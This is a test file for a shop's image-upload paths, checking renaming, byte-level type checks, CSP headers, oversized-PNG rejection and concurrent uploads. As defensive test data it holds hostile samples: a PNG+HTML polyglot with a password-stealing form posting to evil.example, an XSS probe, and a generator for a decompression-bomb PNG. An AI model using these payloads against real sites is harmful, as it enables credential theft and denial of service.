import fs from 'node:fs'
import path from 'node:path'
import { deflateSync } from 'node:zlib'

import { setUpAdmin } from '../support/accounts'
import type { ApiClient } from '../support/apiClient'
import { pngImage, uploadFile } from '../support/images'
import { startShop, type Shop } from '../support/shopProcess'

/**
 * Files reach the shop two ways: the spec's signed upload URL and the panel's image library
 * (Payload's REST). On both, the server names the file, checks it is an image by its bytes and
 * its size in pixels before decoding it, and serves it only as the image type it stored.
 */
describe('uploads on every path', () => {
  let shop: Shop
  let admin: ApiClient

  beforeAll(async () => {
    shop = await startShop({ panel: true })
    admin = await setUpAdmin(shop.url)
  })
  afterAll(() => shop?.stop())

  const uploadsDir = () => path.join(shop.dataDir, 'uploads')

  /** The panel's image library: a multipart POST to /cms-api/media, as Payload's upload field sends it. */
  function panelUpload(file: Buffer, name: string, type: string) {
    const form = new FormData()
    form.append('file', new Blob([new Uint8Array(file)], { type }), name)
    form.append('_payload', JSON.stringify({ alt: 'test' }))
    return fetch(`${shop.url}/cms-api/media`, { method: 'POST', body: form, headers: { cookie: admin.cookieHeader() } })
  }

  it('names a panel upload itself and serves a PNG+HTML polyglot sent as .htm as the PNG it is', async () => {
    const polyglot = Buffer.concat([await pngImage(40, 40), Buffer.from('<html><body><form action="https://evil.example/steal"><input name="password"></form></body></html>')])
    const res = await panelUpload(polyglot, 'invoice.htm', 'text/html')
    expect(res.status).toBe(201)
    const { doc } = (await res.json()) as { doc: { filename: string; mimeType: string; sizes: Record<string, { filename: string | null }> } }
    expect(doc.filename).toMatch(/^[0-9a-f-]{36}\.png$/)
    expect(doc.mimeType).toBe('image/png')
    const served = await fetch(`${shop.url}/objects/media/${doc.filename}`)
    expect(served.status).toBe(200)
    expect(served.headers.get('content-type')).toBe('image/png')
    const csp = served.headers.get('content-security-policy')!
    expect(csp).toContain("form-action 'none'")
    expect(csp).toContain('sandbox')
    for (const size of Object.values(doc.sizes)) {
      if (!size.filename) continue
      expect((await fetch(`${shop.url}/objects/media/${size.filename}`)).headers.get('content-type')).toBe('image/webp')
    }
  })

  it('refuses a panel upload that is not an image by its bytes, whatever its name says', async () => {
    const res = await panelUpload(Buffer.from('<html><script>alert(1)</script></html>'), 'photo.png', 'image/png')
    expect(res.status).toBe(415)
    expect(fs.readdirSync(uploadsDir()).filter((f) => f.startsWith('photo'))).toEqual([])
  })

  it('serves from /objects only files that are stored images, never a stray file by its extension', async () => {
    fs.mkdirSync(uploadsDir(), { recursive: true })
    fs.writeFileSync(path.join(uploadsDir(), 'note.html'), '<form action="https://evil.example"><input name="password"></form>')
    fs.writeFileSync(path.join(uploadsDir(), 'stray.png'), await pngImage(10, 10))
    expect((await fetch(`${shop.url}/objects/media/note.html`)).status).toBe(404)
    expect((await fetch(`${shop.url}/objects/media/stray.png`)).status).toBe(404)
    // Payload's own file route (the panel's image URLs) follows the same rule.
    const viaPayload = await fetch(`${shop.url}/cms-api/media/file/note.html`)
    expect(viaPayload.status).toBe(404)
    expect(viaPayload.headers.get('content-type')).not.toMatch(/html/)
  })

  it('refuses a 16000 × 16000 PNG from its header, in under a second, on both paths', async () => {
    const huge = hugePng(16000, 16000)
    expect(huge.length).toBeLessThan(1024 * 1024)
    let started = performance.now()
    const { put } = await uploadFile(admin, huge)
    const signedUrlMs = performance.now() - started
    expect(put.status).toBe(413)
    expect(put.body.message).toMatch(/16000 × 16000 pixels/)
    started = performance.now()
    const panel = await panelUpload(huge, 'huge.png', 'image/png')
    const panelMs = performance.now() - started
    expect(panel.status).toBe(413)
    expect(JSON.stringify(await panel.json())).toMatch(/16000 × 16000 pixels/)
    expect({ signedUrlMs: signedUrlMs < 1000, panelMs: panelMs < 1000 }).toEqual({ signedUrlMs: true, panelMs: true })
  })

  it('keeps exactly one set of files when one upload URL gets several PUTs at once', async () => {
    const before = new Set(fs.existsSync(uploadsDir()) ? fs.readdirSync(uploadsDir()) : [])
    const { body } = await admin.post('/api/objects/upload')
    const file = await pngImage(900, 700)
    const answers = await Promise.all(Array.from({ length: 6 }, () => admin.raw('PUT', body.uploadURL, file, { 'content-type': 'image/png' })))
    expect(answers.map((a) => a.status).sort()).toEqual([200, 409, 409, 409, 409, 409])
    const added = fs.readdirSync(uploadsDir()).filter((f) => !before.has(f))
    const stored = answers.find((a) => a.status === 200)!.body.objectPath.split('/').pop()
    const media = (await admin.get(`/cms-api/media?where[filename][equals]=${stored}&depth=0`)).body.docs[0]
    // The original and its WebP variants, nothing else.
    const expected = [media.filename, ...Object.values(media.sizes as Record<string, { filename: string | null }>).map((s) => s.filename)]
    expect(added.sort()).toEqual([...new Set(expected.filter(Boolean))].sort())
  })
})

/** A valid, tiny PNG of width × height black pixels (1 bit per pixel): big to decode, small to send. */
function hugePng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data])
    const crc = Buffer.alloc(4)
    crc.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, crc])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1 // bit depth
  header[9] = 0 // greyscale
  const rows = Buffer.alloc((Math.ceil(width / 8) + 1) * height)
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function crc32(data: Buffer): number {
  let crc = 0xffffffff
  for (const byte of data) {
    crc ^= byte
    for (let k = 0; k < 8; k += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1
  }
  return (crc ^ 0xffffffff) >>> 0
}
